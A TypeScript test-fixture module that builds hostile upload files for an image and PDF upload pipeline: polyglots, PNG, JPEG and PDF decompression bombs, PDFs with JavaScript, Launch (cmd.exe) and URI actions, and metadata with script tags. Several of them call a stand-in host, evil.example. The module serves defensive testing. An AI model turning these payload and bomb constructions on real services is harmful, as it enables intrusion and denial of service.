import { deflateSync } from 'node:zlib'
import { crc32 } from 'node:zlib'
import PDFDocument from 'pdfkit'
import sharp from 'sharp'
import type { UploadRefusalCode } from '@zsb/shared/upload'

/** What must not be found in anything that is served. */
export const PLANTED = 'ZSB-PLANTED-PAYLOAD'
const SCRIPT = `<script>fetch('//evil.example/${PLANTED}')</script>`
/** 30°15′ N, 120°10′ E as degrees, minutes, seconds. */
const GPS = { GPSLatitudeRef: 'N', GPSLatitude: '30/1 15/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '120/1 10/1 0/1' }

export interface HostileFile {
  family: string
  name: string
  bytes: Buffer
  /** Refused, one of these reasons · kept, drawn anew · either: broken so that it may go one way or the other, and nothing planted is served. */
  expect: 'kept' | 'either' | readonly UploadRefusalCode[]
}

const text = (content: string): Buffer => Buffer.from(content, 'latin1')
const join = (...pieces: (Buffer | string)[]): Buffer => Buffer.concat(pieces.map((piece) => (typeof piece === 'string' ? text(piece) : piece)))
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0])
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
const ZIP = join('PK\x03\x04\x14\0\0\0\0\0', PLANTED)
const EXE = join('MZ\x90\0\x03\0\0\0', Buffer.alloc(60), 'This program cannot be run in DOS mode.', PLANTED)
const PHP = `<?php system('${PLANTED}'); ?>`

/** Payloads that browsers, shells and viewers would run. */
const PAYLOADS: readonly [string, Buffer][] = [
  ['html', text(`<!doctype html><html>${SCRIPT}</html>`)],
  ['svg with script', text(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${SCRIPT}</svg>`)],
  ['svg with an entity bomb', text(`<!DOCTYPE svg [<!ENTITY a "${PLANTED}"><!ENTITY b "&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>`)],
  ['php', text(PHP)],
  ['zip', ZIP],
  ['exe', EXE],
  ['elf', join('\x7fELF\x02\x01\x01', Buffer.alloc(40), PLANTED)],
  ['shell script', text(`#!/bin/sh\necho ${PLANTED}\n`)],
  ['java class', join(Buffer.from([0xca, 0xfe, 0xba, 0xbe]), PLANTED)],
  ['gzip', join(Buffer.from([0x1f, 0x8b, 0x08]), PLANTED)],
  ['rar', join('Rar!\x1a\x07\x00', PLANTED)],
  ['7z', join('7z\xbc\xaf\x27\x1c', PLANTED)],
  ['PostScript', text(`%!PS-Adobe-3.0\n(${PLANTED}) show`)],
  ['GIF', join('GIF89a', Buffer.from([1, 0, 1, 0, 0, 0, 0]), SCRIPT)],
  ['TIFF', join('II*\0', Buffer.from([8, 0, 0, 0]), PLANTED)],
  ['BMP', join('BM', Buffer.alloc(52), PLANTED)],
  ['icon', join(Buffer.from([0, 0, 1, 0, 1, 0]), PLANTED)],
  ['mp4', join(Buffer.from([0, 0, 0, 24]), 'ftypisom', PLANTED)],
  ['Office document', join(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), PLANTED)],
  ['MSHTML application', text(`<HTA:APPLICATION>${SCRIPT}`)],
  ['libvips', join(Buffer.from([0x08, 0xf2, 0xa6, 0xb6]), PLANTED)],
  ['plain text', text(PLANTED)],
  ['a data address', text(`data:image/jpeg;base64,${PLANTED}`)],
  ['MIME message', text(`Content-Type: text/html\r\n\r\n${SCRIPT}`)],
]

const pngChunk = (type: string, data: Buffer): Buffer => {
  const body = join(type, data)
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}
function pngHead({ width, height, bits, colour }: { width: number; height: number; bits: number; colour: number }): Buffer {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width, 0)
  data.writeUInt32BE(height, 4)
  data.set([bits, colour, 0, 0, 0], 8)
  return join(PNG, pngChunk('IHDR', data))
}
/** A picture of so many pixels in a few kilobytes. */
function pngBomb(edge: number): Buffer {
  const rows = deflateSync(Buffer.alloc((Math.ceil(edge / 8) + 1) * edge), { level: 9 })
  return join(pngHead({ width: edge, height: edge, bits: 1, colour: 0 }), pngChunk('IDAT', rows), pngChunk('IEND', Buffer.alloc(0)))
}
const jpegHead = (width: number, height: number): Buffer => {
  const frame = Buffer.from([0xff, 0xc0, 0, 17, 8, 0, 0, 0, 0, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0])
  frame.writeUInt16BE(height, 5)
  frame.writeUInt16BE(width, 7)
  return Buffer.concat([Buffer.from([0xff, 0xd8]), frame, Buffer.from([0xff, 0xd9])])
}
/** After the start of the file, a segment of this marker. */
const withSegment = (jpeg: Buffer, marker: number, content: Buffer): Buffer => {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)])
}
/** Before the end of the file, a chunk of this kind. */
const withChunk = (png: Buffer, type: string, content: string): Buffer =>
  Buffer.concat([png.subarray(0, png.length - 12), pngChunk(type, text(content)), png.subarray(png.length - 12)])

/** A PDF of these objects, numbered from 1, of which the first is the catalogue. */
export function pdfOf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const pieces: Buffer[] = [text('%PDF-1.7\n')]
  const offsets: number[] = []
  let length = pieces[0]!.length
  objects.forEach((object, i) => {
    offsets.push(length)
    const piece = join(`${i + 1} 0 obj\n`, object, '\nendobj\n')
    pieces.push(piece)
    length += piece.length
  })
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  pieces.push(text(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\n`))
  pieces.push(text(`startxref\n${length}\n%%EOF\n`))
  return Buffer.concat(pieces)
}
const stream = (head: string, content: Buffer): Buffer => join(`<< ${head} /Length ${content.length} >>\nstream\n`, content, '\nendstream')
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << >> >>'
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const DRAWING = stream('', text('1 0 0 rg 20 20 100 100 re f'))
/** One page, and what its catalogue says beside that. */
const onePage = (catalogue: string, ...more: (string | Buffer)[]): Buffer =>
  pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`, PAGES, PAGE, DRAWING, ...more])
const pageWith = (page: string, ...more: (string | Buffer)[]): Buffer =>
  pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R ${page} >>`, DRAWING, ...more])

async function scanned({ pages = 1, password }: { pages?: number; password?: string } = {}): Promise<Buffer> {
  const doc = new PDFDocument({ size: 'A4', autoFirstPage: false, ...(password && { userPassword: password, ownerPassword: password }) })
  const chunks: Buffer[] = []
  doc.on('data', (chunk: Buffer) => chunks.push(chunk))
  const made = new Promise<void>((resolve) => doc.on('end', resolve))
  for (let i = 0; i < pages; i += 1) doc.addPage().rect(60, 60, 200, 120).fill('#cc3333')
  doc.end()
  await made
  return Buffer.concat(chunks)
}

const ACTIONS: readonly [string, string][] = [
  ['JavaScript', `/S /JavaScript /JS (app.alert\\('${PLANTED}'\\))`],
  ['Launch', `/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c ${PLANTED}) >>`],
  ['URI', `/S /URI /URI (https://evil.example/${PLANTED})`],
  ['GoToR', `/S /GoToR /F (//evil.example/${PLANTED}) /D [0 /Fit]`],
  ['SubmitForm', `/S /SubmitForm /F (https://evil.example/${PLANTED})`],
  ['ImportData', `/S /ImportData /F (${PLANTED}.fdf)`],
]

function pdfs(): HostileFile[] {
  const files: HostileFile[] = []
  const add = (name: string, bytes: Buffer, expect: HostileFile['expect'] = 'kept') => files.push({ family: 'PDF', name, bytes, expect })
  for (const [name, action] of ACTIONS) {
    add(`opens with ${name}`, onePage(`/OpenAction << ${action} >>`))
    add(`a page that opens with ${name}`, pageWith(`/AA << /O << ${action} >> >>`))
    add(`a link to ${name}`, pageWith(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << ${action} >> >>]`))
    add(`a name tree of ${name}`, onePage(`/Names << /JavaScript << /Names [(a) << ${action} >>] >> >>`))
  }
  const attached = stream('/Type /EmbeddedFile', EXE)
  add('an attachment', onePage('/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>', attached))
  add('an XFA form', onePage('/AcroForm << /XFA 5 0 R /Fields [] >>', stream('', text(`<xdp:xdp>${SCRIPT}</xdp:xdp>`))))
  add('a form field with script', onePage(`/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K << ${ACTIONS[0]![1]} >> >> >>] >>`))
  add('metadata', onePage('/Metadata 5 0 R', stream('/Type /Metadata /Subtype /XML', text(`<x:xmpmeta>${SCRIPT}</x:xmpmeta>`))))
  add('something behind its end', join(onePage(''), ZIP))
  add('something before its head', join(PHP, onePage('')), ['unknownKind'])
  const bomb = deflateSync(Buffer.alloc(40_000_000, ' '), { level: 9 })
  add('a drawing of 40 MB', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, PAGE, stream('/Filter /FlateDecode', bomb)]), 'either')
  const twice = deflateSync(bomb, { level: 9 })
  add('a drawing packed twice', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, PAGE, stream('/Filter [/FlateDecode /FlateDecode]', twice)]), 'either')
  const huge = '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode'
  add('a picture of 3.6 GP', pageWith('/Resources << /XObject << /I 5 0 R >> >>', stream(huge, deflateSync(Buffer.alloc(1_000)))), 'either')
  const itself = '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /I 5 0 R >> >>'
  add('a form that draws itself', pageWith('/Resources << /XObject << /I 5 0 R >> >>', stream(itself, text('/I Do /I Do'))), 'either')
  add('pages that are their own parent', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']), 'either')
  add('no page', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']), ['damaged'])
  add(
    'a count of two thousand millions',
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>', PAGE, DRAWING]),
    'either',
  )
  for (const box of ['0 0 14400 14400', '0 0 1000000 1000000', '0 0 0 0', '0 0 99999 1', '0 0 1 99999', '-9 -9 -1 -1', '200 200 0 0'])
    add(`a page of ${box}`, pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, PAGE.replace('0 0 200 200', box), DRAWING]), 'either')
  add('a head alone', text(`%PDF-1.7\n${PLANTED}`), ['damaged'])
  add('a head and HTML', text(`%PDF-1.7\n<html>${SCRIPT}</html>`), ['damaged'])
  return files
}

/** Files 恶意文件 that somebody might send in place of a photo; the same every time. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const plain = sharp({ create: { width: 120, height: 90, channels: 3, background: '#3377aa' } })
  const [jpeg, png, webp] = await Promise.all([plain.clone().jpeg().toBuffer(), plain.clone().png().toBuffer(), plain.clone().webp().toBuffer()])
  const bases: readonly [string, Buffer][] = [
    ['jpeg', jpeg],
    ['png', png],
    ['webp', webp],
    ['pdf', await scanned()],
  ]
  const pictures = bases.slice(0, 3)
  const files: HostileFile[] = pdfs()
  const add = (family: string, name: string, bytes: Buffer, expect: HostileFile['expect']) => files.push({ family, name, bytes, expect })

  for (const [name, bytes] of PAYLOADS) {
    add('no picture', name, bytes, ['unknownKind'])
    add('a head and then something else', `jpeg, ${name}`, join(JPEG, bytes), ['damaged'])
    add('a head and then something else', `png, ${name}`, join(PNG, bytes), ['damaged'])
    for (const [kind, picture] of bases) add('something behind the end', `${kind}, ${name}`, join(picture, bytes), 'kept')
  }
  for (const length of [0, 1, 2, 3, 7]) add('no picture', `${length} bytes`, jpeg.subarray(0, length), length === 0 ? ['empty'] : ['unknownKind', 'damaged'])
  for (const brand of ['heic', 'heix', 'mif1']) add('no picture', brand, join(Buffer.from([0, 0, 0, 24]), `ftyp${brand}`, PLANTED), ['heic'])

  for (const [name, picture] of pictures) {
    const said = { IFD0: { ImageDescription: PLANTED, Artist: PLANTED, Software: SCRIPT }, IFD3: GPS }
    const told = sharp(picture).withExif(said)
    const out = name === 'jpeg' ? told.jpeg() : name === 'png' ? told.png() : told.webp()
    add('said of a picture', `${name} with EXIF and GPS`, await out.toBuffer(), 'kept')
  }
  add('said of a picture', 'jpeg with a comment', withSegment(jpeg, 0xfe, text(SCRIPT)), 'kept')
  add('said of a picture', 'jpeg with XMP', withSegment(jpeg, 0xe1, text(`http://ns.adobe.com/xap/1.0/\0${SCRIPT}`)), 'kept')
  add('said of a picture', 'jpeg with IPTC', withSegment(jpeg, 0xed, text(`Photoshop 3.0\0${PLANTED}`)), 'kept')
  add('said of a picture', 'jpeg with a profile that is none', withSegment(jpeg, 0xe2, text(`ICC_PROFILE\0\x01\x01${PLANTED}`)), 'either')
  add('said of a picture', 'jpeg that is a PDF too', withSegment(jpeg, 0xfe, onePage(`/OpenAction << ${ACTIONS[0]![1]} >>`)), 'kept')
  add('said of a picture', 'jpeg that is a zip too', join(withSegment(jpeg, 0xfe, ZIP), ZIP), 'kept')
  for (const type of ['tEXt', 'zTXt', 'iTXt', 'prVt', 'eXIf', 'iCCP'])
    add('said of a picture', `png with ${type}`, withChunk(png, type, `Comment\0${SCRIPT}`), 'either')

  for (const [name, bytes] of bases)
    for (const share of [0.1, 0.3, 0.5, 0.7, 0.9]) add('cut off', `${name} at ${share}`, bytes.subarray(0, Math.floor(bytes.length * share)), 'either')
  for (const [name, bytes] of bases)
    for (let n = 1; n <= 8; n += 1) {
      const broken = Buffer.from(bytes)
      for (let i = 1; i <= n; i += 1) broken[20 + ((n * 7_919 + i * 104_729) % (bytes.length - 20))]! ^= 1 << (i % 8)
      add('broken within', `${name}, ${n} bits`, broken, 'either')
    }

  for (const edge of [5_000, 8_000, 20_000]) add('bomb', `png of ${edge} × ${edge}`, pngBomb(edge), ['tooManyPixels'])
  for (const [width, height] of [
    [60_000, 60_000],
    [2_147_483_647, 2_147_483_647],
    [2_147_483_647, 1],
    [0, 10],
  ] as const)
    // prettier-ignore
    add('bomb', `png that says ${width} × ${height}`, pngHead({ width, height, bits: 8, colour: 2 }), ['tooManyPixels', 'damaged'])
  for (const [width, height] of [
    [65_500, 65_500],
    [30_000, 30_000],
    [0, 0],
  ] as const)
    // prettier-ignore
    add('bomb', `jpeg that says ${width} × ${height}`, jpegHead(width, height), ['tooManyPixels', 'damaged'])
  const wide = await sharp({ create: { width: 16_000, height: 2_000, channels: 3, background: '#fff' } })
    .webp({ effort: 0 })
    .toBuffer()
  add('bomb', 'webp of 32 MP', wide, ['tooManyPixels'])
  add('bomb', 'PDF of 21 pages', await scanned({ pages: 21 }), ['tooManyPages'])
  add('bomb', 'PDF of 900 pages', await scanned({ pages: 900 }), ['tooManyPages'])
  add('bomb', 'PDF with a password', await scanned({ password: 'secret' }), ['locked'])
  return interleave(files)
}

/** One of each family in turn, so that a part of them has some of every one. */
function interleave(files: readonly HostileFile[]): HostileFile[] {
  const families = [...new Set(files.map(({ family }) => family))].map((family) => files.filter((file) => file.family === family))
  const longest = Math.max(...families.map(({ length }) => length))
  return Array.from({ length: longest }, (_, i) => families.flatMap((family) => family[i] ?? [])).flat()
}
